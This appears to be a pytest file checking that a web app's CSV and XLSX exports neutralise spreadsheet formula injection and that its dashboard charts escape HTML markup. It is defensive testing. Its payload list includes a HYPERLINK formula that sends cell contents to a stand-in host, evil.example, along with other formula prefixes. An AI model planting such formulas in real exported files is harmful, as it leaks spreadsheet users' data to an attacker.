"""Exports carry data, never formulas or markup: a title or a name that a spreadsheet would run
comes out of every CSV and XLSX as text, and the charts print it literally."""

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from coop.audit import acting_as
from coop.exports import csv_cell
from coop.extensions import db
from tests import factories
from tests.savings.test_views import estimate

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ATTACKS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_csv_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-1234,50", "+12", "-3", "1.234,00"])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number


@pytest.fixture
def evil(seed):
    with acting_as(None, "test"):
        ini = factories.initiative(seed, title=EVIL, public=True)
        db.session.commit()
    model = estimate(
        seed,
        ini,
        name="@SUM(A1)",
        one_off=[{"year": 2026, "amount": "25000", "description": "-2+3 Migration"}],
    )
    return ini, model


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _no_formula(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def test_every_export_writes_text_as_text(client, auth, seed, evil):
    ini, model = evil
    auth.login("coordinator@test.example")
    hoexter = seed.bodies["hoexter"].id
    rows = _csv_rows(client.get(f"/initiatives/matrix.csv?district={hoexter}").data)
    assert ["'" + EVIL] == [r[0] for r in rows if EVIL in r[0]]
    values = _no_formula(client.get(f"/initiatives/matrix.xlsx?district={hoexter}").data)
    assert EVIL in values
    values = _no_formula(client.get(f"/initiatives/{ini.id}/savings/{model.id}.xlsx").data)
    assert EVIL in values and "@SUM(A1)" in values and "-2+3 Migration" in values
    assert 25000 in values and 2026 in values  # numbers stay numbers
    for chart in ("costs", "cumulative", "partners"):
        response = client.get(f"/initiatives/{ini.id}/savings/{model.id}/{chart}.csv")
        assert response.status_code == 200
        for row in _csv_rows(response.data):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (chart, cell)
                assert not cell.startswith("-") or re.match(r"^-[\d.,]+$", cell), (chart, cell)
    for chart in ("phases", "decisions", "funding", "savings"):
        response = client.get(f"/dashboard/?district={hoexter}&chart={chart}")
        if response.status_code == 404:
            continue
        for row in _csv_rows(response.data):
            assert not any(c.startswith(("=", "+", "@")) for c in row), (chart, row)


def test_charts_print_markup_literally(client, auth, seed):
    with acting_as(None, "test"):
        ini = factories.initiative(seed, title="<b>Fett</b> & <a href=x>Link</a>", public=True)
        db.session.commit()
    estimate(seed, ini)
    auth.login("coordinator@test.example")
    page = client.get(f"/dashboard/?district={seed.bodies['hoexter'].id}").get_data(as_text=True)
    figures = re.findall(r"data-figure='([^']*)'|data-figure=\"([^\"]*)\"", page)
    import html

    texts = json.dumps([json.loads(html.unescape(a or b)) for a, b in figures])
    assert "<b>" not in texts and "&lt;b&gt;Fett&lt;/b&gt; &amp;" in texts
